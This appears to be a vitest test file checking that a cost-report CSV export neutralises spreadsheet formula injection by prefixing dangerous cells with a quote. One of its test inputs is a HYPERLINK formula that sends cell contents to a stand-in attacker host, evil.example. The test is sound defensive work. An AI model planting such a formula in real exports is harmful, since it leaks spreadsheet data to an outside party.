import { describe, expect, it } from 'vitest';
import { costReport, costReportCsv } from '#lib/pricing/cost-report.ts';
import { loadPriceSheet } from '#lib/pricing/price-sheet.ts';

/** RFC 4180 fields of a CSV: quoted fields may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') endField();
    else if (char === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else field += char;
  }
  return rows;
}

/** What a spreadsheet would read as the start of a formula (OWASP's CSV injection list). */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

describe('the cost report CSV opened in a spreadsheet', () => {
  const sheet = loadPriceSheet();
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tx', '\ry'];
  const report = costReport({
    from: '2026-11-01',
    to: '2026-11-01',
    sheet,
    usage: [
      {
        subject: 'project#a',
        day: '2026-11-01',
        units: { inputTokens: 5 },
        models: Object.fromEntries(hostile.map((id) => [id, { input_tokens: 5 }])),
      },
    ],
    runCosts: [],
  });
  const rows = parseCsv(costReportCsv(report));

  it('starts no cell with a formula character: every such cell, whatever its source, is prefixed with a quote', () => {
    const cells = rows.flat();
    for (const cell of cells) expect(FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell), JSON.stringify(cell)).toBe(false);
  });

  it('keeps the ids readable after the quote: the unpriced models row names each, the first neutralised', () => {
    expect(report.unpriced_models[0]).toMatch(FORMULA_START);
    const unpriced = rows.find((row) => row[0] === 'unpriced models')!;
    expect(unpriced[2]).toBe(`'${report.unpriced_models.join(' ')}`);
  });

  it('leaves plain numbers, negative ones included, as numbers', () => {
    const withNegative = costReport({
      from: '2026-11-01',
      to: '2026-11-01',
      sheet,
      usage: [{ subject: 'project#a', day: '2026-11-01', units: { apiRequests: -3 } }],
      runCosts: [],
    });
    const apiGateway = parseCsv(costReportCsv(withNegative)).find((row) => row[0] === 'API Gateway')!;
    expect(apiGateway[1]).toBe('-3');
    expect(apiGateway[2]).toMatch(PLAIN_NUMBER);
  });
});
